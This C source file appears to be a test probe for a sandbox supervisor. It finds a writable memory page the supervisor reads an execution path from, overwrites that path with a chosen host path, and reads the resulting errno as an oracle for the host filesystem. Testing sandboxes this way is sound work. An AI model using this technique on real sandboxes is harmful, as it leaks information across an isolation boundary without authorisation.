// Asks the kernel about a path of the host through an execution: oracle PROGRAM PATH. The supervisor
// makes a task execute a descriptor with an empty path, in memory that the program can write to.
// Prints the errno of the execution, whose arguments cannot be read.
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static char *page;
static const char *asked;

static void find_page(void) {
  FILE *maps = fopen("/proc/self/maps", "r");
  char line[512];
  while (maps != NULL && page == NULL && fgets(line, sizeof line, maps) != NULL) {
    unsigned long from, to;
    if (strstr(line, "rw-p") == NULL || strchr(line, '[') != NULL || strchr(line, '/') != NULL) continue;
    if (sscanf(line, "%lx-%lx", &from, &to) != 2) continue;
    for (unsigned long at = from; at < to && page == NULL; at += 4096) {
      const uint64_t *words = (const uint64_t *)at;
      if (words[2] == at + 56 && words[3] == 1) page = (char *)at;
    }
  }
}

int main(int argc, char **argv) {
  if (argc != 3) return 99;
  asked = argv[2];
  syscall(SYS_execve, argv[1], 8L, 0L);
  find_page();
  if (page == NULL) {
    printf("no page\n");
    return 0;
  }
  // Behind the message: wherever the empty path is.
  for (size_t at = 56; at + strlen(asked) < 4096 && at < 256; at += 8) {
    if (*(uint64_t *)(page + at) == 0) strcpy(page + at, asked);
  }
  errno = 0;
  syscall(SYS_execve, argv[1], 8L, 0L);
  printf("%d\n", errno);
  return 0;
}
